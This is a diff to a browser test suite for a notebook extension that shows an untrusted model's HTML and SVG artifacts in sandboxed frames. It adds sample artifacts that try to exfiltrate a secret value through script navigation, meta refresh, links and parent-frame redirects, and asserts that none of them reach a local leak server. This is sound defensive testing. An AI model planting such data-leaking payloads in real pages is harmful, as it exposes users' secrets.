@@ -49,16 +49,31 @@ fetch('/api/kernels', {credentials: 'include'}).then(
   r => log('fetch', 'allowed ' + r.status), e => log('fetch', 'blocked ' + e.name));
 </script>"""
 
-HOSTILE_CELL = f'''\
+
+def _transcript_cell(answer: str) -> str:
+    """A cell that displays a finished transcript of an untrusted model whose answer is `answer` (markdown)."""
+    return f'''\
 from glm_nb.render import Part, Transcript, extract_artifacts
 
-answer = r"""Here is the page you asked for.
-
-```html
-{HOSTILE_PAGE}
-```"""
+answer = r"""{answer}"""
 Transcript("chat", "an untrusted model", "Make me a page", parts=(Part("text", answer),), answer=answer,
            artifacts=tuple(extract_artifacts(answer)), finish_reason="stop")'''
+
+
+HOSTILE_CELL = _transcript_cell(f"Here is the page you asked for.\n\n```html\n{HOSTILE_PAGE}\n```")
+
+# Artifacts that try to carry a secret out in a URL by navigating their own frame. No policy a document sets for
+# itself forbids that (its CSP stops fetches, not navigations): only the policy of the document around its frame.
+# `#go` is a link the test clicks, as a user would.
+SVG_OPEN = '<svg xmlns="http://www.w3.org/2000/svg" width="160" height="40">'
+LEAKY_ARTIFACTS = (
+    ("html", "<p>script</p><script>location.href = '{url}/html-script?secret=42'</script>"),
+    ("html", '<meta http-equiv="refresh" content="0;url={url}/html-refresh?secret=42"><p>refresh</p>'),
+    ("html", '<a id="go" href="{url}/html-link?secret=42">a plain link</a>'),
+    ("html", "<script>parent.location.href = '{url}/html-parent?secret=42'</script>"),  # the wrapper: no
+    ("svg", '<meta http-equiv="refresh" content="0;url={url}/svg-refresh?secret=42">' + SVG_OPEN + "</svg>"),
+    ("svg", SVG_OPEN + '<a href="{url}/svg-link?secret=42"><rect id="go" width="160" height="40"/></a></svg>'),
+)
 
 
 def test_a_glm_cell_streams_then_ends_as_a_transcript_drawn_by_the_extension(lab):
@@ -92,7 +107,8 @@ def test_svg_and_html_artifacts_are_visible_and_a_code_block_inserts_a_cell(lab)
     frame = svg_reply.locator("iframe.glm-nb-svg-frame")
     expect(frame).to_be_visible()
     assert frame.get_attribute("sandbox") == ""  # a drawing gets no scripts at all
-    circle = svg_reply.frame_locator("iframe.glm-nb-svg-frame").locator("svg circle")
+    assert svg_reply.frame_locator("iframe.glm-nb-svg-frame").locator("iframe").get_attribute("sandbox") == ""
+    circle = _model_page(svg_reply, "svg").locator("svg circle")
     expect(circle).to_be_visible()
     box = circle.bounding_box()
     assert box and box["width"] > 20 and box["height"] > 20
@@ -102,7 +118,9 @@ def test_svg_and_html_artifacts_are_visible_and_a_code_block_inserts_a_cell(lab)
     page_frame = html_reply.locator("iframe.glm-nb-html-frame")
     expect(page_frame).to_be_visible()
     assert page_frame.get_attribute("sandbox") == "allow-scripts"
-    expect(html_reply.frame_locator("iframe.glm-nb-html-frame").locator("button")).to_contain_text("Save")
+    inner = html_reply.frame_locator("iframe.glm-nb-html-frame").locator("iframe")
+    assert inner.get_attribute("sandbox") == "allow-scripts"
+    expect(_model_page(html_reply, "html").locator("button")).to_contain_text("Save")
     expect(page_frame).not_to_have_css("height", "360px")  # the page reported its own (smaller) height
 
     # "Copy" and "Insert as cell below" on the drawing's source (the latter: a new cell under the %%glm cell)
@@ -166,7 +184,7 @@ def test_an_html_artifact_cannot_reach_the_notebook(lab):
     transcript = lab.finished_transcript()
     frame = transcript.locator("iframe.glm-nb-html-frame")
     assert frame.get_attribute("sandbox") == "allow-scripts"
-    log = transcript.frame_locator("iframe.glm-nb-html-frame").locator("#log")
+    log = _model_page(transcript, "html").locator("#log")
     expect(log).to_contain_text("fetch:", timeout=15_000)
     lab.page.wait_for_timeout(1000)  # room for a navigation or a late change to show itself
 
@@ -187,6 +205,28 @@ def test_an_html_artifact_cannot_reach_the_notebook(lab):
     assert kernels[0]["execution_state"] in ("idle", "busy")
     assert lab.page.context.cookies() == lab_cookies
     transcript.screenshot(path=str(_shot("hostile-html")))
+
+
+def test_an_artifact_cannot_leak_data_by_navigating_its_own_frame(lab, leak_server):
+    fences = [f"```{kind}\n{source.format(url=leak_server.url)}\n```" for kind, source in LEAKY_ARTIFACTS]
+    lab.new_notebook("leaky.ipynb", [LOAD, _transcript_cell("Pages for you.\n\n" + "\n\n".join(fences))])
+    lab.open("leaky.ipynb")
+
+    lab.run_all()
+    transcript = lab.finished_transcript()
+    expect(transcript.locator("iframe.glm-nb-html-frame")).to_have_count(4)
+    expect(transcript.locator("iframe.glm-nb-svg-frame")).to_have_count(2)
+    lab.page.wait_for_timeout(1500)  # a script's navigation or a meta refresh happens after load
+    links = [frame.locator("#go") for frame in lab.page.frames if frame.locator("#go").count()]
+    for link in links:
+        link.click()
+    lab.page.wait_for_timeout(1500)
+
+    assert len(links) == 2  # the HTML link and the SVG one were there to click
+    assert leak_server.leaks == [], leak_server.leaks
+    assert transcript.locator("iframe.glm-nb-frame").evaluate_all(
+        "frames => frames.every(f => f.sandbox.contains('allow-same-origin') === false)"
+    )
 
 
 def test_the_chat_panel_streams_stops_and_sends_again(lab):
@@ -245,7 +285,7 @@ def test_a_saved_notebook_reopened_with_no_kernel_shows_its_transcripts(lab, vie
 
     expect(viewer.transcripts()).to_have_count(2, timeout=30_000)
     assert viewer.transcripts().nth(0).locator(".glm-nb-answer").inner_text() == answer
-    expect(viewer.transcripts().nth(1).frame_locator("iframe.glm-nb-svg-frame").locator("svg circle")).to_be_visible()
+    expect(_model_page(viewer.transcripts().nth(1), "svg").locator("svg circle")).to_be_visible()
     assert viewer_server.api("kernels") == []  # nothing ran: the outputs came from the file
     viewer.page.screenshot(path=str(_shot("reopened-without-kernel")), full_page=True)
 
@@ -282,6 +322,11 @@ def test_insert_a_glm_cell_and_explain_a_cell(lab):
     expect(lab.transcripts()).to_have_count(2, timeout=60_000)
     reply = lab.finished_transcript(0)
     assert reply.locator(".glm-nb-user").inner_text() == DEMO_PROMPTS["chat"]
+
+
+def _model_page(transcript, kind: str):
+    """The model's own document of the artifact frame in `transcript`: one level inside our wrapper frame."""
+    return transcript.frame_locator(f"iframe.glm-nb-{kind}-frame").frame_locator("iframe")
 
 
 def _transcripts(outputs):
